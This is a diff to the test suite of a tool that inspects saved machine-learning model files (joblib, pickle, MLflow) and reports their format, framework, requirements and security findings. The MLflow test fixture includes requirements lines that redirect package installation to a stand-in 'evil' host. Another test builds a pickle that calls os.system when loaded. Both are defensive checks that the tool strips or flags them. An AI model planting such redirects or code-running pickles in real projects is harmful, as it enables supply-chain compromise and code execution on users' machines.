@@ -59,7 +59,11 @@ def test_pickles_of_every_protocol(model: Any, tmp_path: Path, protocol: int) ->
 def test_joblib_of_every_compression(model: Any, tmp_path: Path, compress: Any) -> None:
     path = tmp_path / "model.joblib"
     joblib.dump(model, path, compress=compress)
-    assert of(path) == Inspection("joblib", "scikit-learn", sklearn.__version__, ["joblib", "numpy", SKLEARN], [])
+    found = of(path)
+    assert (found.format, found.framework, found.framework_version) == ("joblib", "scikit-learn", sklearn.__version__)
+    assert (found.requirements, found.findings) == (["joblib", "numpy", SKLEARN], [])
+    assert (found.template, found.artifact) == ("estimator", "model.joblib")
+    assert found.inputs is not None and found.inputs["data"]["shape"] == [None, 4]
 
 
 def test_joblib_arrays_of_every_kind_are_stepped_over(model: Any, tmp_path: Path) -> None:
@@ -307,10 +311,11 @@ def folder(tmp_path: Path, **files: bytes) -> list[tuple[str, Path]]:
 
 
 def test_mlflow_folders(model: Any, tmp_path: Path) -> None:
-    requirements = b"mlflow<4,>=2\nscikit-learn==1.4.2 # pin\n--index-url http://evil/\nx @ http://evil/x.whl\n\ncloudpickle==3.0.0\n"
-    files = folder(tmp_path, MLmodel=MLMODEL.encode(), model__pkl=pickle.dumps(model), requirements__txt=requirements)
+    text = b"mlflow<4,>=2\nscikit-learn==1.4.2 # pin\n--index-url http://evil/\nx @ http://evil/x.whl\n\ncloudpickle==3.0.0\n"
+    files = folder(tmp_path, MLmodel=MLMODEL.encode(), model__pkl=pickle.dumps(model), requirements__txt=text)
+    requirements = ["cloudpickle==3.0.0", "mlflow", "scikit-learn==1.4.2"]
     assert inspect(files) == Inspection(
-        "mlflow", "scikit-learn", "1.4.2", ["cloudpickle==3.0.0", "mlflow", "scikit-learn==1.4.2"], []
+        "mlflow", "scikit-learn", "1.4.2", requirements, [], template="mlflow", artifact="iris"
     )
     found = inspect(folder(tmp_path, MLmodel=MLMODEL.encode(), model__pkl=pickle.dumps(Calls(os.system))))
     assert found.requirements == ["mlflow", "scikit-learn==1.4.2"]
